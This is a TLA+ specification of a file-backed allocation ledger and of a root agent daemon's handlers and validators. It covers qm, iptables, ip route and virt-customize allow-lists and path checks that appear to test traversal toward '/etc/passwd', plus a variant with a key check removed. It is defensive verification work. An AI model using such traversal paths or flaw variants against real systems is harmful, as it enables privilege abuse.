    /\ inodes' = [inodes EXCEPT ![local[p].tmp].state = "full"]
    /\ SetPc(p, "tmp_closed")
    /\ UNCHANGED <<local, lock, dataInode, disk, dirDisk, committed, returns,
                   calls, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* os.rename(tmp_path, str(self.db_file))
WriteRename(p) ==
    /\ ~crashed /\ pc[p] = "tmp_closed"
    /\ dataInode' = local[p].tmp
    /\ committed' = committed \cup {inodes[local[p].tmp].doc}
    /\ local' = [local EXCEPT ![p].tmp = 0]
    /\ LET live == ({local[p].tmp, dirDisk}
                      \cup {local[q].tmp : q \in Procs \ {p}}
                      \cup {local[q].fd : q \in Procs})
       IN /\ inodes' = Collect(inodes, live)
          /\ disk' = Collect(disk, live)
    /\ SetPc(p, "written")
    /\ UNCHANGED <<lock, dirDisk, returns, calls, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* except BaseException: os.unlink(tmp_path); raise  (the write or the rename
\* failed: no space, an I/O error, a signal)
WriteFail(p) ==
    /\ ~crashed /\ pc[p] \in {"tmp_open", "tmp_partial", "tmp_closed"}
    /\ local' = [local EXCEPT ![p].tmp = 0, ![p].error = "OSError"]
    /\ LET live == (LiveInodes \ {local[p].tmp}) \cup {dataInode}
       IN /\ inodes' = Collect(inodes, live)
          /\ disk' = Collect(disk, live)
    /\ SetPc(p, "raising")
    /\ UNCHANGED <<lock, dataInode, dirDisk, committed, returns, calls, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* return db, through "finally: fcntl.flock(lf.fileno(), fcntl.LOCK_UN)"
TxnReturn(p) ==
    /\ ~crashed /\ pc[p] = "written"
    /\ flock_UN(p)
    /\ Returned(p, local[p].op, local[p].result, "")
    /\ local' = [local EXCEPT ![p] = NoLocal]
    /\ SetPc(p, "idle")
    /\ UNCHANGED <<inodes, dataInode, disk, dirDisk, committed, calls, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* an exception that leaves without the unlock of the finally clause
TxnRaiseLocked(p) ==
    /\ ~crashed /\ pc[p] = "raising"
    /\ Returned(p, local[p].op, None, local[p].error)
    /\ local' = [local EXCEPT ![p] = NoLocal]
    /\ SetPc(p, "idle")
    /\ UNCHANGED <<lock, inodes, dataInode, disk, dirDisk, committed, calls,
                   crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* an exception leaves through "finally: fcntl.flock(lf.fileno(), LOCK_UN)"
TxnRaise(p) ==
    /\ ~crashed /\ pc[p] = "raising"
    /\ flock_UN(p)
    /\ Returned(p, local[p].op, None, local[p].error)
    /\ local' = [local EXCEPT ![p] = NoLocal]
    /\ SetPc(p, "idle")
    /\ UNCHANGED <<inodes, dataInode, disk, dirDisk, committed, calls, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* _read_db: open(self.db_file, "r"); flock(LOCK_SH) on the data file, which
\* no writer locks, never waits
ReadOpen(p) ==
    /\ ~crashed /\ pc[p] = "idle" /\ calls[p] < MaxCalls
    /\ local' = [local EXCEPT ![p] = [NoLocal EXCEPT !.op = "read",
                                                     !.fd = dataInode]]
    /\ calls' = [calls EXCEPT ![p] = @ + 1]
    /\ SetPc(p, "r_open")
    /\ UNCHANGED <<lock, inodes, dataInode, disk, dirDisk, committed, returns,
                   crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* return json.load(f); finally: flock(LOCK_UN); the file is closed
ReadLoad(p) ==
    /\ ~crashed /\ pc[p] = "r_open"
    /\ Returned(p, "read", inodes[local[p].fd], "")
    /\ local' = [local EXCEPT ![p] = NoLocal]
    /\ LET live == LiveInodes \ ({local[p].fd} \ ({dataInode, dirDisk}
                       \cup {local[q].tmp : q \in Procs}
                       \cup {local[q].fd : q \in Procs \ {p}}))
       IN /\ inodes' = Collect(inodes, live)
          /\ disk' = Collect(disk, live)
    /\ SetPc(p, "idle")
    /\ UNCHANGED <<lock, dataInode, dirDisk, committed, calls, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

TxnSteps(p) ==
    \/ TxnRead(p) \/ TxnMutate(p) \/ WriteMkstemp(p) \/ WriteDump(p)
    \/ WriteClose(p) \/ WriteRename(p) \/ WriteFail(p) \/ TxnReturn(p)
    \/ TxnRaise(p)

(***************************************************************************)
(* SpecFileAlloc: processes that call allocate_ip on one ledger file       *)
(***************************************************************************)
NextFileAlloc ==
    \E p \in Procs : TxnLock(p, "allocate_ip", None) \/ TxnSteps(p)

SpecFileAlloc == Init /\ [][NextFileAlloc]_vars

PoolAddresses == {Ipv4(i) : i \in PoolStart..PoolEnd}

AllocCalls ==
    {k \in DOMAIN returns :
        returns[k].op = "allocate_ip" /\ returns[k].error = ""}

\* C7: of the concurrent allocate_ip calls on one ledger file, no two return
\* the same address, and a call returns null only when the pool is exhausted.
C7_NoDuplicateIp ==
    /\ \A a \in AllocCalls, b \in AllocCalls :
           (a # b /\ returns[a].result # None) =>
               returns[a].result # returns[b].result
    /\ \A a \in AllocCalls :
           returns[a].result = None =>
               PoolAddresses \subseteq
                   ListSet(inodes[dataInode].doc.allocated_ips)

\* two processes were each given an address and a further call found the
\* pool exhausted
C7_Witness ==
    /\ \E a \in AllocCalls, b \in AllocCalls :
           a[1] # b[1] /\ returns[a].result # None /\ returns[b].result # None
    /\ \E c \in AllocCalls : returns[c].result = None

(***************************************************************************)
(* SpecFile: processes that run transactions and point reads               *)
(***************************************************************************)
NextFile ==
    \E p \in Procs :
        \/ TxnLock(p, "release_ip", Ipv4(PoolStart))
        \/ TxnLock(p, "allocate_vmid", None)
        \/ TxnSteps(p)
        \/ ReadOpen(p)
        \/ ReadLoad(p)

SpecFile == Init /\ [][NextFile]_vars

InTxn ==
    {"locked", "read", "mutated", "tmp_open", "tmp_partial", "tmp_closed",
     "written", "raising"}

\* C8: a process between taking the lock and leaving _atomic_update holds the
\* exclusive lock (so at most one is between its read and its write), and a
\* process that has left it, by return or by exception, does not hold it.
C8_LockHeldForTransaction ==
    \A p \in Procs :
        /\ pc[p] \in InTxn => lock = p
        /\ pc[p] \notin InTxn => lock # p

\* a transaction whose mutator raised is over and a process is in the middle
\* of the next transaction, holding the lock
C8_Witness ==
    /\ \E k \in DOMAIN returns : returns[k].error = "VMID range exhausted"
    /\ \E p \in Procs : pc[p] = "tmp_partial" /\ lock = p

ReadCalls == {k \in DOMAIN returns : returns[k].op = "read"}

\* C10: a point read returns a whole document that a transaction renamed over
\* the data file (or the seed), whatever the writers are doing meanwhile.
C10_ReadsSeeCommitted ==
    \A k \in ReadCalls :
        /\ returns[k].result.state = "full"
        /\ returns[k].result.doc \in committed

\* a read that opened the file before a writer renamed over it has returned
\* the older document, while a writer is half-way through its temp file
C10_Witness ==
    /\ \E k \in ReadCalls : returns[k].result.doc # inodes[dataInode].doc
    /\ \E p \in Procs : pc[p] = "tmp_partial"

(***************************************************************************)
(* SpecCrash: the same with the page cache and power failure.  A file's    *)
(* data and the directory entry reach the disk when the kernel writes them *)
(* back, in no fixed order: the write path calls neither flush nor fsync.  *)
(***************************************************************************)
Writeback(i) ==
    /\ ~crashed /\ i \in DOMAIN inodes /\ disk[i] # inodes[i]
    /\ disk' = [disk EXCEPT ![i] = inodes[i]]
    /\ UNCHANGED <<pc, local, lock, inodes, dataInode, dirDisk, committed,
                   returns, calls, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

DirCommit ==
    /\ ~crashed /\ dirDisk # dataInode
    /\ dirDisk' = dataInode
    /\ LET live == {dataInode} \cup {local[q].tmp : q \in Procs}
                      \cup {local[q].fd : q \in Procs}
       IN /\ inodes' = Collect(inodes, live)
          /\ disk' = Collect(disk, live)
    /\ UNCHANGED <<pc, local, lock, dataInode, committed, returns, calls,
                   crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

\* power failure: the processes are gone, the files are what the disk holds
Crash ==
    /\ ~crashed
    /\ crashed' = TRUE
    /\ pc' = [p \in Procs |-> "idle"]
    /\ local' = [p \in Procs |-> NoLocal]
    /\ lock' = Free
    /\ dataInode' = dirDisk
    /\ inodes' = Collect(disk, {dirDisk})
    /\ disk' = Collect(disk, {dirDisk})
    /\ UNCHANGED <<dirDisk, committed, returns, calls>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

NextCrash ==
    \/ \E p \in Procs :
          \/ TxnLock(p, "allocate_ip", None)
          \/ TxnSteps(p)
    \/ \E i \in DOMAIN inodes : Writeback(i)
    \/ DirCommit
    \/ Crash

SpecCrash == Init /\ [][NextCrash]_vars

\* C9: the temp file is on the disk, whole, before it is renamed over the data
\* file, and after a crash at any step the data file holds a whole document:
\* the old one or the new one.
C9_CrashSafeWrite ==
    /\ \A p \in Procs : pc[p] = "written" => disk[dataInode].state = "full"
    /\ crashed => /\ inodes[dataInode].state = "full"
                  /\ inodes[dataInode].doc \in committed

\* the outcome alone: after a crash the data file holds a whole document
CrashLeavesWholeFile ==
    crashed => inodes[dataInode].state = "full"

(***************************************************************************)
(* The root agent daemon (blockhost_root_agent.py): values and validators  *)
(*   - a JSON value is a record: t its Python type, i the number of an     *)
(*     int or bool, s the text of a str, l the items of a list or the      *)
(*     [key, value] pairs of a dict in the order of the document           *)
(*   - a str is a TLA+ string, read character by character with SubSeq     *)
(***************************************************************************)
JInt(n) == [t |-> "int", i |-> n, s |-> "", l |-> <<>>]
JBool(b) == [t |-> "bool", i |-> IF b THEN 1 ELSE 0, s |-> "", l |-> <<>>]
JStr(x) == [t |-> "str", i |-> 0, s |-> x, l |-> <<>>]
JList(items) == [t |-> "list", i |-> 0, s |-> "", l |-> items]
JDict(pairs) == [t |-> "dict", i |-> 0, s |-> "", l |-> pairs]
JPair(k, v) == JList(<<JStr(k), v>>)
JNone == [t |-> "NoneType", i |-> 0, s |-> "", l |-> <<>>]

\* isinstance(v, int): a bool is an int
IsInt(v) == v.t \in {"int", "bool"}
IsStr(v) == v.t = "str"

\* params.get(key, default)
Get(params, key, default) ==
    IF key \in DOMAIN params THEN params[key] ELSE default

\* d.get(key, default) on a dict value
DictGet(d, key, default) ==
    LET hits == {k \in 1..Len(d.l) : d.l[k].l[1].s = key}
    IN IF hits = {} THEN default ELSE d.l[CHOOSE k \in hits : TRUE].l[2]

\* the decimal text of an int
RECURSIVE DecStr(_)
DecStr(n) ==
    IF n < 0 THEN "-" \o DecStr(0 - n)
    ELSE IF n < 10 THEN Digit(n)
    ELSE DecStr(n \div 10) \o Digit(n % 10)

\* str(v) of an int, a bool or a str
str(v) ==
    CASE v.t = "int" -> DecStr(v.i)
      [] v.t = "bool" -> (IF v.i = 1 THEN "True" ELSE "False")
      [] v.t = "str" -> v.s
      [] v.t = "NoneType" -> "None"
      [] OTHER -> "<" \o v.t \o ">"

startswith(s, prefix) ==
    Len(s) >= Len(prefix) /\ SubSeq(s, 1, Len(prefix)) = prefix

CharAt(s, k) == SubSeq(s, k, k)

LowerChars ==
    {"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n",
     "o", "p", "q", "r", "s", "t", "u", "v", "w", "x", "y", "z"}
UpperChars ==
    {"A", "B", "C", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M", "N",
     "O", "P", "Q", "R", "S", "T", "U", "V", "W", "X", "Y", "Z"}
DigitChars == {"0", "1", "2", "3", "4", "5", "6", "7", "8", "9"}
HexChars == DigitChars \cup {"a", "b", "c", "d", "e", "f"}
                       \cup {"A", "B", "C", "D", "E", "F"}

\* what a pattern that ends in $ has to match: $ also matches just before a
\* newline that ends the string
BeforeDollar(s) ==
    IF Len(s) > 0 /\ CharAt(s, Len(s)) = "\n"
    THEN SubSeq(s, 1, Len(s) - 1)
    ELSE s

\* re.match of ^[class]{lo,hi}$; none of the classes holds a newline
MatchClass(s, class, lo, hi) ==
    LET b == BeforeDollar(s)
    IN /\ Len(b) >= lo
       /\ Len(b) <= hi
       /\ \A k \in 1..Len(b) : CharAt(b, k) \in class

\* the classes [a-z0-9-], [a-zA-Z0-9-] and [0-9a-fA-F:]
NameChars == LowerChars \cup DigitChars \cup {"-"}
CommentChars == LowerChars \cup UpperChars \cup DigitChars \cup {"-"}
Ipv6Chars == HexChars \cup {":"}

NAME_RE(s) == MatchClass(s, NameChars, 1, 64)
SHORT_NAME_RE(s) == MatchClass(s, NameChars, 1, 32)
STORAGE_RE(s) == MatchClass(s, NameChars, 1, Len(s))
COMMENT_RE(s) == MatchClass(s, CommentChars, 1, Len(s))
ADDRESS_RE(s) ==
    /\ startswith(s, "0x")
    /\ MatchClass(SubSeq(s, 3, Len(s)), HexChars, 40, 40)
IPV6_CIDR128_RE(s) ==
    LET b == BeforeDollar(s)
    IN /\ Len(b) > 4
       /\ SubSeq(b, Len(b) - 3, Len(b)) = "/128"
       /\ \A k \in 1..(Len(b) - 4) : CharAt(b, k) \in Ipv6Chars

VMID_MIN == 100
VMID_MAX == 999999
PORT_MIN == 1
PORT_MAX == 65535

QM_SET_ALLOWED_KEYS ==
    {"scsi0", "boot", "ide2", "agent", "serial0", "vga",
     "net0", "memory", "cores", "name", "ostype", "scsihw"}

QM_CREATE_ALLOWED_ARGS ==
    {"--scsi0", "--boot", "--ide2", "--agent", "--serial0", "--vga",
     "--net0", "--memory", "--cores", "--name", "--ostype", "--scsihw",
     "--sockets", "--cpu", "--numa", "--machine", "--bios"}

ALLOWED_ROUTE_DEVS == {"vmbr0"}
WALLET_DENY_NAMES == {"admin", "server", "dev", "broker"}

VIRT_CUSTOMIZE_ALLOWED_OPS ==
    {"--install", "--run-command", "--copy-in", "--upload",
     "--chmod", "--mkdir", "--write", "--append-line",
     "--firstboot-command", "--run", "--delete"}

\* the components of a path, between its slashes
RECURSIVE SplitPath(_)
SplitPath(s) ==
    LET hits == {k \in 1..Len(s) : CharAt(s, k) = "/"}
        k == CHOOSE h \in hits : \A g \in hits : h <= g
    IN IF hits = {} THEN <<s>>
       ELSE <<SubSeq(s, 1, k - 1)>> \o SplitPath(SubSeq(s, k + 1, Len(s)))

\* the walk of the kernel along the components of an absolute path: "" and
\* "." stay, ".." goes to the parent (the root is its own parent)
RECURSIVE Walk(_, _, _)
Walk(comps, i, at) ==
    IF i > Len(comps) THEN at
    ELSE IF comps[i] \in {"", "."} THEN Walk(comps, i + 1, at)
    ELSE IF comps[i] = ".."
    THEN Walk(comps, i + 1, SubSeq(at, 1, Len(at) - 1))
    ELSE Walk(comps, i + 1, Append(at, comps[i]))

RECURSIVE JoinPath(_, _)
JoinPath(comps, i) ==
    IF i > Len(comps) THEN "" ELSE "/" \o comps[i] \o JoinPath(comps, i + 1)

\* the location that an absolute path denotes (no symbolic links)
realpath(path) ==
    LET at == Walk(SplitPath(path), 1, <<>>)
    IN IF at = <<>> THEN "/" ELSE JoinPath(at, 1)

\* the regular files of the host that os.path.isfile finds
ExistingFiles == {"/var/lib/blockhost/disk.img", "/tmp/base.qcow2", "/etc/passwd"}
isfile(path) == realpath(path) \in ExistingFiles

\* a validator returns the text of the ValueError it raises, "" when it accepts
_validate_vmid(vmid) ==
    IF ~IsInt(vmid) \/ vmid.i < VMID_MIN \/ vmid.i > VMID_MAX
    THEN "vmid must be int " \o DecStr(VMID_MIN) \o "-" \o DecStr(VMID_MAX)
    ELSE ""

_validate_ipv6_128(address) ==
    IF ~IsStr(address) THEN "expected string or bytes-like object"
    ELSE IF ~IPV6_CIDR128_RE(address.s) THEN "Invalid IPv6/128: " \o address.s
    ELSE ""

_validate_dev(dev) ==
    IF ~IsStr(dev) \/ dev.s \notin ALLOWED_ROUTE_DEVS
    THEN "Device not allowed: " \o str(dev)
    ELSE ""

(***************************************************************************)
(* The root agent daemon: the runner and the action handlers.  A handler   *)
(* is an operator of the request's params, of what subprocess.run gives    *)
(* (r) and of the files of /etc/blockhost (fs); it yields the exception    *)
(* that it raises (raised, "" for none), its reply, the argv vectors that  *)
(* it handed to _run, and the files.                                       *)
(***************************************************************************)
Err(msg) == [ok |-> FALSE, error |-> msg, output |-> "", address |-> ""]
OkOut(out) == [ok |-> TRUE, error |-> "", output |-> out, address |-> ""]

Return(reply, argvs, fs) ==
    [raised |-> "", response |-> reply, runs |-> argvs, fs |-> fs]
Throw(msg, argvs, fs) ==
    [raised |-> msg, response |-> NoResponse, runs |-> argvs, fs |-> fs]

KeyError(key) == "'" \o key \o "'"
TypeError == "expected string or bytes-like object"
AttributeError(v, attr) ==
    "'" \o v.t \o "' object has no attribute '" \o attr \o "'"

\* what subprocess.run does with a command: the child outlives the timeout,
\* is killed and TimeoutExpired is raised, or the child ends with an exit
\* code, stdout and stderr
RunResults ==
    {[raised |-> "", rc |-> 0, out |-> "done", err |-> ""],
     [raised |-> "", rc |-> 0, out |-> "Address: 0xA1\nPrivate key: 0xB2",
      err |-> ""],
     [raised |-> "", rc |-> 1, out |-> "", err |-> "command failed"],
     [raised |-> "TimeoutExpired", rc |-> 0, out |-> "", err |-> ""]}

\* repr of a str: in single quotes, or in double quotes when the text holds
\* a single quote and no double quote; backslash, the quote and the control
\* characters \n, \r, \t are written as escapes
HasChar(s, c) == \E k \in 1..Len(s) : CharAt(s, k) = c

RECURSIVE repr_chars(_, _)
repr_chars(s, quote) ==
    IF s = "" THEN ""
    ELSE LET c == CharAt(s, 1)
         IN (CASE c = "\\" -> "\\\\"
               [] c = "\n" -> "\\n"
               [] c = "\r" -> "\\r"
               [] c = "\t" -> "\\t"
               [] c = quote -> "\\" \o quote
               [] OTHER -> c)
            \o repr_chars(SubSeq(s, 2, Len(s)), quote)

repr_str(s) ==
    LET quote == IF HasChar(s, "'") /\ ~HasChar(s, "\"") THEN "\"" ELSE "'"
    IN quote \o repr_chars(s, quote) \o quote

\* repr of a list of str
RECURSIVE repr_items(_, _)
repr_items(cmd, i) ==
    IF i > Len(cmd) THEN ""
    ELSE (IF i > 1 THEN ", " ELSE "") \o repr_str(cmd[i])
             \o repr_items(cmd, i + 1)

repr(cmd) == "[" \o repr_items(cmd, 1) \o "]"

\* str(e) of the subprocess.TimeoutExpired that subprocess.run raises
TimeoutExpired(cmd, timeout) ==
    "Command '" \o repr(cmd) \o "' timed out after " \o DecStr(timeout)
        \o " seconds"

\* ' '.join(str(c) for c in cmd)
RECURSIVE join(_, _)
join(cmd, i) ==
    IF i > Len(cmd) THEN ""
    ELSE (IF i > 1 THEN " " ELSE "") \o cmd[i] \o join(cmd, i + 1)

\* log.info(...) and the other calls of log: a line on stderr
Logged(fs, line) == [fs EXCEPT !.log = Append(@, line)]

\* the first line of _run
LoggedExec(fs, cmd) == Logged(fs, "exec: " \o join(cmd, 1))

\* rc, out, err = _run(cmd, timeout); the reply that every subprocess
\* handler builds
RunAndReply(cmd, timeout, r, fs) ==
    LET ran == LoggedExec(fs, cmd)
    IN IF r.raised # ""
       THEN Throw(TimeoutExpired(cmd, timeout), <<cmd>>, ran)
       ELSE IF r.rc # 0
       THEN Return(Err(IF r.err # "" THEN r.err ELSE r.out), <<cmd>>, ran)
       ELSE Return(OkOut(r.out), <<cmd>>, ran)

_handle_qm_simple(params, subcommand, extra_args, timeout, r, fs) ==
    IF "vmid" \notin DOMAIN params THEN Throw(KeyError("vmid"), <<>>, fs)
    ELSE IF _validate_vmid(params["vmid"]) # ""
    THEN Throw(_validate_vmid(params["vmid"]), <<>>, fs)
    ELSE RunAndReply(<<"qm", subcommand, str(params["vmid"])>> \o extra_args,
                     timeout, r, fs)

\* the while loop of handle_qm_create: i steps by two over args
RECURSIVE qm_create_check(_, _)
qm_create_check(args, i) ==
    IF i > Len(args) THEN ""
    ELSE LET arg == str(args[i])
         IN IF ~startswith(arg, "--")
            THEN "Unexpected positional arg: " \o arg
            ELSE IF arg \notin QM_CREATE_ALLOWED_ARGS
            THEN "Disallowed arg: " \o arg
            ELSE qm_create_check(args, i + 2)

handle_qm_create(params, r, fs) ==
    LET name == Get(params, "name", JStr(""))
        args == Get(params, "args", JList(<<>>))
    IN IF "vmid" \notin DOMAIN params THEN Throw(KeyError("vmid"), <<>>, fs)
       ELSE IF _validate_vmid(params["vmid"]) # ""
       THEN Throw(_validate_vmid(params["vmid"]), <<>>, fs)
       ELSE IF ~IsStr(name) THEN Throw(TypeError, <<>>, fs)
       ELSE IF ~NAME_RE(name.s)
       THEN Return(Err("Invalid VM name: " \o name.s), <<>>, fs)
       ELSE IF args.t # "list"
       THEN Return(Err("args must be a list"), <<>>, fs)
       ELSE IF qm_create_check(args.l, 1) # ""
       THEN Return(Err(qm_create_check(args.l, 1)), <<>>, fs)
       ELSE RunAndReply(
                <<"qm", "create", str(params["vmid"]), "--name", name.s>>
                    \o [k \in 1..Len(args.l) |-> str(args.l[k])],
                300, r, fs)

handle_qm_importdisk(params, r, fs) ==
    LET disk_path == Get(params, "disk_path", JStr(""))
        storage == Get(params, "storage", JStr(""))
    IN IF "vmid" \notin DOMAIN params THEN Throw(KeyError("vmid"), <<>>, fs)
       ELSE IF _validate_vmid(params["vmid"]) # ""
       THEN Throw(_validate_vmid(params["vmid"]), <<>>, fs)
       ELSE IF ~IsStr(disk_path)
       THEN Throw(AttributeError(disk_path, "startswith"), <<>>, fs)
       ELSE IF ~startswith(disk_path.s, "/var/lib/blockhost/")
       THEN Return(Err("disk_path must be under /var/lib/blockhost/"), <<>>, fs)
       ELSE IF ~isfile(disk_path.s)
       THEN Return(Err("Disk file not found: " \o disk_path.s), <<>>, fs)
       ELSE IF ~IsStr(storage) THEN Throw(TypeError, <<>>, fs)
       ELSE IF ~STORAGE_RE(storage.s)
       THEN Return(Err("Invalid storage name: " \o storage.s), <<>>, fs)
       ELSE RunAndReply(<<"qm", "importdisk", str(params["vmid"]),
                          disk_path.s, storage.s>>, 600, r, fs)

\* handle_qm_set without the test of the key against QM_SET_ALLOWED_KEYS
RECURSIVE qm_set_extend_any_key(_, _, _)
qm_set_extend_any_key(items, k, cmd) ==
    IF k > Len(items) THEN [error |-> "", cmd |-> cmd]
    ELSE qm_set_extend_any_key(items, k + 1,
             cmd \o <<"--" \o items[k].l[1].s, str(items[k].l[2])>>)

\* the for loop of handle_qm_set over options.items(): the error of the first
\* key that is not allowed, or the command extended by every option
RECURSIVE qm_set_extend(_, _, _)
qm_set_extend(items, k, cmd) ==
    IF k > Len(items) THEN [error |-> "", cmd |-> cmd]
    ELSE LET key == items[k].l[1].s
             value == items[k].l[2]
         IN IF key \notin QM_SET_ALLOWED_KEYS
            THEN [error |-> "Disallowed option: " \o key, cmd |-> cmd]
            ELSE qm_set_extend(items, k + 1,
                               cmd \o <<"--" \o key, str(value)>>)

handle_qm_set(params, r, fs) ==
    LET options == Get(params, "options", JDict(<<>>))
    IN IF "vmid" \notin DOMAIN params THEN Throw(KeyError("vmid"), <<>>, fs)
       ELSE IF _validate_vmid(params["vmid"]) # ""
       THEN Throw(_validate_vmid(params["vmid"]), <<>>, fs)
       ELSE IF options.t # "dict"
       THEN Return(Err("options must be a dict"), <<>>, fs)
       ELSE LET built == qm_set_extend(options.l, 1,
                             <<"qm", "set", str(params["vmid"])>>)
            IN IF built.error # "" THEN Return(Err(built.error), <<>>, fs)
               ELSE RunAndReply(built.cmd, 120, r, fs)

ip6_route(params, verb, r, fs) ==
    IF "address" \notin DOMAIN params THEN Throw(KeyError("address"), <<>>, fs)
    ELSE IF _validate_ipv6_128(params["address"]) # ""
    THEN Throw(_validate_ipv6_128(params["address"]), <<>>, fs)
    ELSE IF "dev" \notin DOMAIN params THEN Throw(KeyError("dev"), <<>>, fs)
    ELSE IF _validate_dev(params["dev"]) # ""
    THEN Throw(_validate_dev(params["dev"]), <<>>, fs)
    ELSE RunAndReply(<<"ip", "-6", "route", verb, params["address"].s,
                       "dev", params["dev"].s>>, 120, r, fs)

handle_ip6_route_add(params, r, fs) == ip6_route(params, "replace", r, fs)
handle_ip6_route_del(params, r, fs) == ip6_route(params, "del", r, fs)

iptables_rule(params, flag, r, fs) ==
    LET port == Get(params, "port", JNone)
        proto == Get(params, "proto", JStr("tcp"))
        comment == Get(params, "comment", JStr(""))
    IN IF ~IsInt(port) \/ port.i < PORT_MIN \/ port.i > PORT_MAX
       THEN Return(Err("port must be 1-65535"), <<>>, fs)
       ELSE IF ~IsStr(proto) \/ proto.s \notin {"tcp", "udp"}
       THEN Return(Err("proto must be tcp or udp"), <<>>, fs)
       ELSE IF ~IsStr(comment) THEN Throw(TypeError, <<>>, fs)
       ELSE IF ~COMMENT_RE(comment.s)
       THEN Return(Err("Invalid comment (alphanumeric/dash only)"), <<>>, fs)
       ELSE RunAndReply(<<"iptables", flag, "INPUT", "-p", proto.s,
                          "--dport", str(port), "-j", "ACCEPT",
                          "-m", "comment", "--comment", comment.s>>,
                        120, r, fs)

handle_iptables_open(params, r, fs) == iptables_rule(params, "-A", r, fs)
handle_iptables_close(params, r, fs) == iptables_rule(params, "-D", r, fs)

\* the for loop of handle_virt_customize over commands: the error of the first
\* entry that is refused, or the command extended by every entry
RECURSIVE virt_customize_extend(_, _, _)
virt_customize_extend(commands, k, cmd) ==
    IF k > Len(commands) THEN [error |-> "", cmd |-> cmd]
    ELSE LET entry == commands[k]
         IN IF entry.t # "list" \/ Len(entry.l) < 2
            THEN [error |-> "Each command must be [op, arg, ...]: " \o str(entry),
                  cmd |-> cmd]
            ELSE IF ~IsStr(entry.l[1])
                    \/ entry.l[1].s \notin VIRT_CUSTOMIZE_ALLOWED_OPS
            THEN [error |-> "Disallowed virt-customize op: " \o str(entry.l[1]),
                  cmd |-> cmd]
            ELSE virt_customize_extend(commands, k + 1,
                     cmd \o [j \in 1..Len(entry.l) |-> entry.l[j].s])

handle_virt_customize(params, r, fs) ==
    LET image_path == Get(params, "image_path", JStr(""))
        commands == Get(params, "commands", JList(<<>>))
    IN IF ~IsStr(image_path)
       THEN Throw(AttributeError(image_path, "startswith"), <<>>, fs)
       ELSE IF ~(startswith(image_path.s, "/var/lib/blockhost/")
                 \/ startswith(image_path.s, "/tmp/"))
       THEN Return(Err("image_path must be under /var/lib/blockhost/ or /tmp/"),
                   <<>>, fs)
       ELSE IF ~isfile(image_path.s)
       THEN Return(Err("Image not found: " \o image_path.s), <<>>, fs)
       ELSE IF commands.t # "list" \/ Len(commands.l) = 0
       THEN Return(Err("commands must be a non-empty list"), <<>>, fs)
       ELSE LET built == virt_customize_extend(commands.l, 1,
                             <<"virt-customize", "-a", image_path.s>>)
            IN IF built.error # "" THEN Return(Err(built.error), <<>>, fs)
               ELSE RunAndReply(built.cmd, 600, r, fs)

KeyfileOf(name) == "/etc/blockhost/" \o name \o ".key"

\* str.strip(), str.splitlines() for text whose lines end in \n, and
\* str.lower() for ASCII text
Whitespace == {" ", "\t", "\n", "\r"}

RECURSIVE lstrip(_)
lstrip(s) ==
    IF Len(s) > 0 /\ CharAt(s, 1) \in Whitespace
    THEN lstrip(SubSeq(s, 2, Len(s)))
    ELSE s

RECURSIVE rstrip(_)
rstrip(s) ==
    IF Len(s) > 0 /\ CharAt(s, Len(s)) \in Whitespace
    THEN rstrip(SubSeq(s, 1, Len(s) - 1))
    ELSE s

strip(s) == lstrip(rstrip(s))

\* s.find(c) + 1
Find(s, c) ==
    LET hits == {k \in 1..Len(s) : CharAt(s, k) = c}
    IN IF hits = {} THEN 0 ELSE CHOOSE k \in hits : \A h \in hits : k <= h

RECURSIVE splitlines(_)
splitlines(s) ==
    IF s = "" THEN <<>>
    ELSE LET k == Find(s, "\n")
         IN IF k = 0 THEN <<s>>
            ELSE <<SubSeq(s, 1, k - 1)>> \o splitlines(SubSeq(s, k + 1, Len(s)))

UpperAlphabet == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
LowerAlphabet == "abcdefghijklmnopqrstuvwxyz"

RECURSIVE lower(_)
lower(s) ==
    IF s = "" THEN ""
    ELSE LET c == CharAt(s, 1)
             k == Find(UpperAlphabet, c)
         IN (IF k = 0 THEN c ELSE CharAt(LowerAlphabet, k))
                \o lower(SubSeq(s, 2, Len(s)))

\* line.split(':', 1)[1].strip()
AfterColon(line) == strip(SubSeq(line, Find(line, ":") + 1, Len(line)))

\* the for loop of handle_generate_wallet over out.splitlines(); "" stands
\* for None, which `not address` treats alike
RECURSIVE wallet_lines(_, _, _)
wallet_lines(lines, k, found) ==
    IF k > Len(lines) THEN found
    ELSE LET line == strip(lines[k])
         IN wallet_lines(lines, k + 1,
                IF startswith(line, "Address:")
                THEN [found EXCEPT !.address = AfterColon(line)]
                ELSE IF startswith(lower(line), "private key:")
                THEN [found EXCEPT !.private_key = AfterColon(line)]
                ELSE found)

ParsedWallet(out) ==
    wallet_lines(splitlines(out), 1, [address |-> "", private_key |-> ""])

\* str(e) of what a failing write and a failing grp.getgrnam raise
ENOSPC == "[Errno 28] No space left on device"
NoGroup == "\"getgrnam(): name not found: 'blockhost'\""

AddressbookPath == "/etc/blockhost/addressbook.json"

\* a file as open(path, 'w') creates it under the umask 022 that the daemon
\* inherits (it never sets one), and as os.chown(path, 0, gid) and
\* os.chmod(path, 0o640) leave it
CreatedPerms == [mode |-> "0644", owner |-> "root", group |-> "root"]
ServicePerms == [mode |-> "0640", owner |-> "root", group |-> "blockhost"]

\* path.write_text(...): the file is created if it is missing and emptied if
\* it is not, and keeps the mode and the owner that it had
Opened(fs, path) ==
    [fs EXCEPT !.perms = IF path \in DOMAIN @ THEN @
                         ELSE Put(@, path, CreatedPerms)]

\* ab_file.write_text(json.dumps(entries, indent=2)) with its two ends: the
\* text is written, or the write fails after the file was emptied
WroteAddressbook(fs, entries) ==
    [Opened(fs, AddressbookPath) EXCEPT !.addressbook = entries,
                                        !.abfile = "whole"]
TruncatedAddressbook(fs) ==
    [Opened(fs, AddressbookPath) EXCEPT !.addressbook = <<>>,
                                        !.abfile = "truncated"]

\* os.chown(path, 0, gid); os.chmod(path, 0o640)
